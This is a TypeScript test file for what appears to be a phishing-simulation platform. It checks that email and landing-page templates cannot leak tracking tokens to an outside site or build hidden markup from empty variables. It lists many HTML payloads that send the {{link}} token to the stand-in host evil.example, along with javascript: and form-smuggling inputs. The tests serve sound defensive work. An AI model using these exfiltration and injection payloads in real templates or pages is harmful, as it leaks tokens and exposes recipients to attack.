import * as campaigns from '@vigil/contract/phishing-campaigns/endpoints.ts';
import * as templates from '@vigil/contract/phishing-templates/endpoints.ts';
import type { ValueOf } from '@vigil/contract/phishing-templates/variables.ts';
import { sql } from 'kysely';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { deliveriesOf, hit, launch, makeTemplate, tokenOf, until } from '../../../test/make-campaign.ts';
import { makeOrganization } from '../../../test/make-organization.ts';
import { startSink, type Sink } from '../../../test/sink.ts';
import { startServer, type TestServer } from '../../../test/start-server.ts';
import { asSystem } from '../../db/database.ts';
import { fillReading, readHtml } from './commands/read-html.ts';
import { fillEmail, hasStrayLink, hasStrayLinks, readEmail } from './commands/read-email.ts';

const nobody: ValueOf = (name) => (name === 'link' ? 'TOKEN' : '');

describe('The link of an email', () => {
  test.each([
    '<a href="https://evil.example/?u={{link}}">x</a>',
    "<a href='//evil.example/{{ link }}'>x</a>",
    '<a href="https://evil.example/?u=\n{{link}}">x</a>',
    '<a title=">" href="https://evil.example/?u= {{link}}">x</a>',
    '<a href=https://evil.example/?u={{ link }}>x</a>',
    '<a href="{{link}}, {{link}}">x</a>',
    '<img srcset="https://evil.example/?u={{link}} 2x">',
    '<img src="https://evil.example/{{link}}.gif">',
    '<div style="background:url(https://evil.example/?u={{link}})">x</div>',
    '<style>p{background:url(https://evil.example/?u={{link}})}</style>',
    '<form action="https://evil.example"><input name="u" value="{{link}}"><textarea name="v">{{link}}</textarea></form>',
    '<p>https://evil.example/?u={{link}}</p>',
    '<p>https://evil.example/?u=<b>{{link}}</b></p>',
    '<!--[if mso]><v:rect href="https://evil.example/?u={{link}}"><![endif]-->',
    '<a href="{{link}}" ping="https://evil.example/?u={{link}}">x</a>',
    '<a {{link}}>x</a>',
    '<a href="&#123;{link}}">x</a><img src="https://evil.example/?t={{link}}">',
    '<p>https://evil.example/?t=({{link}})</p>',
    '<p>https://evil.example/?t=(<x>{{link}}</x>)</p>',
    '<p><{{middle_name}}img src="https://evil.example/?t=\'{{link}}\'"></p>',
    '<!-- --{{middle_name}}> <img src="https://evil.example/?t=\'{{link}}\'"> -->',
    "<!--[if mso]><a title='{{link}}' href=https://evil.example/?t={{link}}>x</a><![endif]-->",
    '<svg><style>&lt;img src="https://evil.example/?t={{link}}"></style></svg>',
    '<template><img src="https://evil.example/?t={{link}}"></template>',
    '<a href="{{link}}@evil.example">x</a>',
    '<p>{{link}}@evil.example</p>',
  ])('is not filled in %s', (html) => {
    expect(hasStrayLink(html)).toBe(true);
    const filled = fillReading(readHtml(html), nobody);
    expect(filled).not.toMatch(/evil\.example[^<>"]*TOKEN|value="TOKEN|>TOKEN<\/textarea|<a TOKEN/i);
  });

  test.each([
    '<a href="{{link}}">Open</a>',
    '<a href={{ link }} title="Go: {{link}}">Open</a>',
    '<a href=" {{link}} ">{{link}}</a>.',
    '<p>Ссылка:{{link}} (<b>{{ link }}</b>)</p>',
    '<!--[if mso]><v:roundrect href="{{link}}" style="x"><![endif]--><a href="{{link}}">x</a>',
    '<p>Nothing here</p><br><hr>',
  ])('is filled in %s', (html) => {
    expect(hasStrayLink(html)).toBe(false);
    const filled = html.replaceAll(/\{\{ ?link ?\}\}/g, 'TOKEN').replace('href=TOKEN', 'href="TOKEN"');
    expect(fillReading(readHtml(html), nobody)).toBe(
      html.startsWith('<!--')
        ? filled.replace(/(?<=<!\[endif\]-->)(.*)$/, '<html><head></head><body>$1</body></html>')
        : `<html><head></head><body>${filled}</body></html>`,
    );
  });

  test('is astray in plain text only within another address', () => {
    const message = { sender_name: '', sender_address: '', subject: '', html: '', attachments: [] };
    const storedText = (text: string) =>
      fillEmail(readEmail({ ...message, text }), (name) => (name === 'link' ? 'LINK' : ''), '').text;
    for (const text of ['Откройте: {{link}}', '{{link}}', '<{{ link }}>', 'Go:{{link}}\n({{link}})']) {
      expect(hasStrayLinks({ ...message, text })).toBe(false);
      expect(storedText(text)).toBe(text.replaceAll(/\{\{ ?link ?\}\}/g, 'LINK'));
    }
    expect(storedText('https://evil.example/?u={{ link }} {{link}}')).toBe('https://evil.example/?u= LINK');
    expect(storedText('https://evil.example/?u=({{link}})')).toBe('https://evil.example/?u=()');
    expect(
      hasStrayLinks({ ...message, text: 'x', attachments: [{ name: 'a', type: 'text/html', content: '<i x="{{link}}">' }] }),
    ).toBe(true);
  });
});

test.each([
  ['a form in two halves', '<form{{middle_name}}><inp{{middle_name}}ut name="x">', /<form>|<input/],
  ['a tag after a sign', '<{{middle_name}}form><{{middle_name}}input name="x">', /<form|<input/],
  ['an attribute', '<p on{{middle_name}}click="x">y</p>', / onclick/],
  ['a handler', '<p onclick="{{middle_name}}">y</p>', /onclick=""/],
  ['a page in a page', '<p srcdoc="<{{middle_name}}b>">y</p>', /<b>/],
  ['an end of a style', '<style>p{}</sty{{middle_name}}le><b>x</b></style>', /<\/style><b>/],
  ['an end of a comment', '<!-- --{{middle_name}}><b>x</b> -->', /--><b>/],
  ['a scheme', '<a href="java{{middle_name}}script:alert(1)">x</a>', /javascript:/],
])('security 31: An empty variable creates no markup: %s', (_what, html, made) => {
  expect(html.replaceAll('{{middle_name}}', '')).toMatch(made);
  expect(fillReading(readHtml(html), nobody)).not.toMatch(made);
});

test('security 31: The text around a variable, in texts, attributes and comments, is filled and escaped', () => {
  const values: ValueOf = (name) => (name === 'first_name' ? `<b>&"'` : nobody(name));
  const html = '<p title="{{first_name}}">{{ first_name }}</p><!--[if mso]><v:x alt="{{first_name}}">{{first_name}}<![endif]-->';
  const name = '&#60;b&#62;&#38;&#34;&#39;';
  expect(fillReading(readHtml(html), values)).toContain(
    `<p title="${name}">${name}</p><!--[if mso]><v:x alt="${name}">${name}<![endif]-->`,
  );
});

test('An email keeps its document type, by which mail programs lay it out', () => {
  const doctype =
    '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd">';
  expect(fillReading(readHtml(`${doctype}<p>x</p>`), nobody)).toBe(`${doctype}<html><head></head><body><p>x</p></body></html>`);
});

test('security 33: A template is read in a moment, whatever it contains', () => {
  const started = performance.now();
  for (const part of ['{{link}}', '(', '({{link}})', 'a:', '<b>', '<!--{{link}}', '<a href="{{link}}">'])
    readHtml(part.repeat(100_000 / part.length));
  expect(performance.now() - started).toBeLessThan(10_000);
});

let server: TestServer;
let sink: Sink;

beforeAll(async () => {
  sink = await startSink();
  server = await startServer({ SMTP_HOST: '127.0.0.1', SMTP_PORT: String(sink.port), SMTP_SECURITY: 'none' });
});
afterAll(async () => {
  await server.stop();
  await sink.close();
});

test('No email and no page of the library puts its link astray', async () => {
  const { emails, pages } = await asSystem(server.services.database, async (tx) => ({
    emails: await tx.selectFrom('phishing_emails').selectAll().where('organization_id', 'is', null).execute(),
    pages: await tx.selectFrom('phishing_pages').selectAll().where('organization_id', 'is', null).execute(),
  }));
  for (const email of emails) expect(hasStrayLinks(email as never), email.name).toBe(false);
  for (const page of pages) expect(hasStrayLink(page.html), page.name).toBe(false);
});

test('security 35: The form of a landing page posts and its fields have no names, whatever its variables leave', async () => {
  const home = await makeOrganization(server);
  const { token } = home.people.operator;
  const id = await makeTemplate(server, home);
  const { body } = await server.call(templates.getTemplate, { params: { id }, token });
  const html = '<form{{middle_name}}><inp{{middle_name}}ut name="password"></form{{middle_name}}><p>{{first_name}}</p>';
  await server.call(templates.changePage, { params: { id: body.pages[0]!.id }, token, body: { html } });
  const campaign = await launch(server, home, { templates: [id] });
  const [first] = await until(
    () => deliveriesOf(server, campaign.id),
    (rows) => rows.every(({ state }) => state === 'sent'),
  );
  const landing = (await hit(server, `/l/${tokenOf(server, first!.id)}`)).body;
  expect(landing).not.toMatch(/<form>|<input/);
  expect(landing).not.toContain('{{first_name}}');
});

test('A template that would reveal the token to an outside site is refused, and an older one reveals it to nobody', async () => {
  const home = await makeOrganization(server);
  const { token } = home.people.operator;
  const id = await makeTemplate(server, home);
  const { body } = await server.call(templates.getTemplate, { params: { id }, token });
  const trap = '<a href="https://evil.example/?u={{link}}">x</a><a href="{{link}}">y</a>';
  const email = await server.call(templates.changeEmail, { params: { id: body.emails[0]!.id }, token, body: { html: trap } });
  const page = await server.call(templates.changePage, { params: { id: body.pages[0]!.id }, token, body: { html: trap } });
  for (const { status, body: refused } of [email, page]) {
    expect(status).toBe(422);
    expect((refused as unknown as { code: string }).code).toBe('template.stray_link');
  }
  const start_date = new Date(Date.now() + 3_600_000).toISOString();
  const campaign = await launch(server, home, { templates: [id], start_date });
  await asSystem(server.services.database, async (tx) => {
    await tx
      .updateTable('campaign_templates')
      .set({ html: trap, page_html: trap, text: trap })
      .where('campaign_id', '=', campaign.id)
      .execute();
    await sql`update phishing_campaigns set status = 'active', start_date = now() where id = ${campaign.id}`.execute(tx);
    await sql`update deliveries set send_at = now() where campaign_id = ${campaign.id}`.execute(tx);
  });
  const [first] = await until(
    () => deliveriesOf(server, campaign.id),
    (rows) => rows.every(({ state }) => state === 'sent'),
  );
  const its = tokenOf(server, first!.id);
  const raw = sink.messages.find(({ messageId }) => messageId.includes(first!.id))!.raw;
  const message = Array.from(raw.matchAll(/^(?:[A-Za-z0-9+/]{4,}={0,2}\r\n)+/gm), ([part]) =>
    Buffer.from(part, 'base64').toString(),
  ).join('\n');
  expect(message).toContain(`href="http://phish.test/l/${its}">y`);
  const landing = (await hit(server, `/l/${its}`)).body;
  for (const shown of [message, landing]) expect(shown).not.toMatch(new RegExp(`evil\\.example[^<>"\\s]*${its}`));
  expect(landing).toContain(`href="http://phish.test/l/${its}">y`);
  expect((await server.call(campaigns.getCampaign, { params: { id: campaign.id }, token })).status).toBe(200);
});
